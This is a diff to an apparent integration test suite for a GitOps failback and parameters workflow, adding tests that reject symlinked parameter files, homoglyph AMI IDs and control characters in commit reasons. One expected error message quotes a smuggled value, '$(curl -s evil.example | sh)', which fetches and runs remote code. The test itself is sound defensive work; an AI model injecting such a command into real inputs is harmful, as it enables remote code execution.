@@ -4,7 +4,7 @@
  * stack in moto. Each: exit code 1, an error annotation that says what, where and how to fix, and
  * the stack exactly as it was (status, last update, parameters, change sets).
  */
-import { readFileSync, writeFileSync } from 'node:fs';
+import { readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 
 import { RegisterImageCommand, DescribeImagesCommand } from '@aws-sdk/client-ec2';
@@ -98,7 +98,39 @@ describe('bad inputs (integration): the bundles against moto, exit 1, stack unch
     (run) => {
       expect(errorOf(run)?.message).toBe(
         'Failback request rejected for dev: target-ami "$(curl -s evil.example | sh)" is not an AMI ID (ami- and 8 or 17 lowercase hex digits, e.g. ami-0123456789abcdef0); ' +
-          'leave it empty to use the AMI before the current one; reason contains a line break or control character; write it on one line. Fix the inputs and run the workflow again.',
+          'leave it empty to use the AMI before the current one; reason contains a line break, control or invisible formatting character at character 5 (U+000A LINE FEED (a line break)); ' +
+          'write it on one line of visible text (it goes into a commit message and a pull request, where such a character can forge a trailer or show text in another order). Fix the inputs and run the workflow again.',
+      );
+      expect(repo.workspace.git('status', '--porcelain')).toBe('');
+      expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
+    },
+  );
+
+  badInput(
+    'B72',
+    async () => {
+      // The parameters file as a link to a copy beside it: the shape a "share one file" change takes.
+      renameSync(join(repo.workspace.dir, DEV_FILE), join(repo.workspace.dir, 'parameters/shared.json'));
+      symlinkSync('shared.json', join(repo.workspace.dir, DEV_FILE));
+      return updateAppStack({});
+    },
+    (run) => {
+      const error = errorOf(run);
+      expect(error?.message).toBe(
+        `Parameters file invalid for ${DEV_FILE}: it is a symbolic link (to "shared.json"); links are refused because git stores a link, not the file, and a link can make one environment read another's. ` +
+          'Replace the link with a copy of the file itself (git rm the link, add the file), or point at the real file.',
+      );
+      expect(error?.properties).toMatchObject({ file: DEV_FILE, line: '1' });
+    },
+  );
+
+  badInput(
+    'B73',
+    () => step('gitops', { command: 'resolve-failback', environment: 'dev', 'target-ami': 'ami-0123456789\u0430bcdef0', reason: 'p99 doubled' }),
+    (run) => {
+      expect(errorOf(run)?.message).toBe(
+        'Failback request rejected for dev: target-ami "ami-0123456789\\u0430bcdef0" (character 15 is U+0430 CYRILLIC SMALL LETTER A, not ASCII) is not an AMI ID ' +
+          '(ami- and 8 or 17 lowercase hex digits, e.g. ami-0123456789abcdef0); leave it empty to use the AMI before the current one. Fix the inputs and run the workflow again.',
       );
       expect(repo.workspace.git('status', '--porcelain')).toBe('');
       expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
